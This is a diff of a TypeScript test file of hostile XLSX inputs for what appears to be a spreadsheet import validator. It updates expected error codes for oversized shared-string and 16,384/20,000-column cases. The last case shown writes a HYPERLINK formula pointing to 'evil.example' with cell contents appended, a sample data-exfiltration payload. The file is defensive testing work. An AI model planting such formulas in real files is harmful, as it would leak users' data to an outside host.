@@ -73,10 +73,12 @@ export const HOSTILE: HostileCase[] = [
   {
     name: 'shared strings: 300,000 distinct strings',
     build: () => minimalXlsx(sheet(header), [{ name: 'xl/sharedStrings.xml', data: Buffer.from(`<sst xmlns="${MAIN}">${Array.from({ length: 300_000 }, () => `<si><t>${crypto.randomBytes(24).toString('base64')}</t></si>`).join('')}</sst>`) }]),
-    expect: ['ROWS:MISSING_INCOME', 'VALID', 'MISSING_COLUMNS', 'NO_HOUSEHOLD_SHEET'],
+    expect: ['EMPTY', 'NO_HOUSEHOLD_SHEET', 'MISSING_COLUMNS'],
   },
-  { name: '20 k columns in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 20_000 }, (_, i) => `Cột ${i + 1}`)))), expect: ['NO_HOUSEHOLD_SHEET'] },
-  { name: '20 k columns in data rows', build: () => minimalXlsx(sheet(header + [2, 3, 4].map((r) => rowXml(r, [...DATA[0]!.map((v, j) => (j === 1 ? `X${r}` : v)), ...Array.from({ length: 20_000 }, (_, i) => `${i}`)])).join(''))), expect: ['VALID', 'ROWS:DUPLICATE_IN_FILE'] },
+  // Excel stops at column XFD (16,384): a sheet with 20,000 columns is malformed, and exceljs refuses it (PARSE_FAILED).
+  { name: '20 k columns in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 20_000 }, (_, i) => `Cột ${i + 1}`)))), expect: ['PARSE_FAILED', 'NO_HOUSEHOLD_SHEET'] },
+  { name: '16,384 columns (the maximum) in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 16_384 }, (_, i) => `Cột ${i + 1}`)))), expect: ['NO_HOUSEHOLD_SHEET'] },
+  { name: '16,384 columns in data rows', build: () => minimalXlsx(sheet(header + [2, 3, 4].map((r) => rowXml(r, [...DATA[0]!.map((v, j) => (j === 1 ? `X${r}` : v)), ...Array.from({ length: 16_384 - HEADERS.length }, (_, i) => `${i}`)])).join(''))), expect: ['VALID'] },
   {
     name: 'formulas everywhere (no cached results)',
     build: () => minimalXlsx(sheet(header + [2, 3, 4, 5].map((r) => `<row r="${r}">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}${r}"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c>`).join('')}</row>`).join(''))),
